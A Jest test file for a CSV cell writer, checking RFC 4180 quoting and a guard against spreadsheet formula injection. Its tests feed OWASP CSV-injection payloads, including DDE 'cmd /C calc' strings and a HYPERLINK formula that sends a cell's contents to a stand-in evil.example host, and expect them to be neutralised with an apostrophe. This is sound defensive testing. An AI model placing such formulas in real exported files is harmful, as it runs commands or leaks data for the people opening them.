import { csvCell, csvLine } from '../../../shared/syncErrors/csv';

describe('csvCell (RFC 4180)', () => {
  test('plain text is written as is', () => {
    expect(csvCell('Joe Johnson')).toBe('Joe Johnson');
  });

  test('a cell holding a quote is quoted and its quotes doubled', () => {
    expect(csvCell('Joe "JJ" Johnson')).toBe('"Joe ""JJ"" Johnson"');
  });

  test('a cell holding a comma is quoted', () => {
    expect(csvCell('CN=Joe,OU=Users')).toBe('"CN=Joe,OU=Users"');
  });

  test('a cell holding CR or LF is quoted, the line break kept inside', () => {
    expect(csvCell('a\r\nb')).toBe('"a\r\nb"');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('a\rb')).toBe('"a\rb"');
  });

  test('null is an empty cell; booleans are words', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(false)).toBe('false');
  });
});

describe('formula injection (SPEC decision 20)', () => {
  test.each(['=', '+', '-', '@'])('a cell starting with %s gets a leading apostrophe', (start) => {
    expect(csvCell(`${start}cmd|' /C calc'!A0`)).toBe(`'${start}cmd|' /C calc'!A0`);
  });

  test('a source anchor starting with + is guarded too', () => {
    expect(csvCell('+B/c9Dd9EeFfGg0HhIiJjA==')).toBe("'+B/c9Dd9EeFfGg0HhIiJjA==");
  });

  test('the guard comes before quoting, so a guarded cell that needs quotes has both', () => {
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe('"\'=HYPERLINK(""http://x"",""y"")"');
  });

  // OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): the payloads it lists,
  // and the prefixes it names (=, +, -, @, tab 0x09, carriage return 0x0D).
  test.each([
    // A formula after a separator inside the cell is guarded too: a ;-locale splits there.
    ['=1+2";=1+2', '"\'=1+2"";\'=1+2"'],
    ['=1+2\'" ;,=1+2', '"\'=1+2\'"" ;,\'=1+2"'],
    ["@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    [
      '=HYPERLINK("http://evil.example?x="&A1,"Error")',
      '"\'=HYPERLINK(""http://evil.example?x=""&A1,""Error"")"',
    ],
    ['\t=1+2', '"\'\t\'=1+2"'],
    ['\r=1+2', '"\'\r\'=1+2"'],
  ])('OWASP payload %j is guarded and quoted where it holds a separator', (payload, written) => {
    expect(csvCell(payload)).toBe(written);
  });

  test('a formula after a ; is quoted and guarded, so a ;-separator locale (de-DE, fr-FR) never starts a cell with it', () => {
    expect(csvCell("Joe;=cmd|' /C calc'!A0")).toBe("\"Joe;'=cmd|' /C calc'!A0\"");
    expect(csvCell('a, -b')).toBe('"a, \'-b"');
  });

  test.each([' =1+2', '  @SUM(A1)', '\u00a0=1', ' \t+1'])(
    'leading whitespace before a formula character is guarded: %j',
    (payload) => {
      expect(csvCell(payload).replace(/^"/, '')).toMatch(/^\s*'/);
    },
  );

  test('full-width formula characters, which some spreadsheets take as their ASCII forms, are guarded', () => {
    expect(csvCell('\uFF1D1+2')).toBe("'\uFF1D1+2");
  });

  test('those characters elsewhere in a cell are left alone', () => {
    expect(csvCell('joe+tag@contoso.com')).toBe('joe+tag@contoso.com');
    expect(csvCell("a'b")).toBe("a'b");
  });
});

describe('csvLine', () => {
  test('joins cells with commas and ends with CRLF', () => {
    expect(csvLine(['a', null, 'b,c', false])).toBe('a,,"b,c",false\r\n');
  });

  test('a line of one empty cell is still a line', () => {
    expect(csvLine([null])).toBe('\r\n');
  });
});
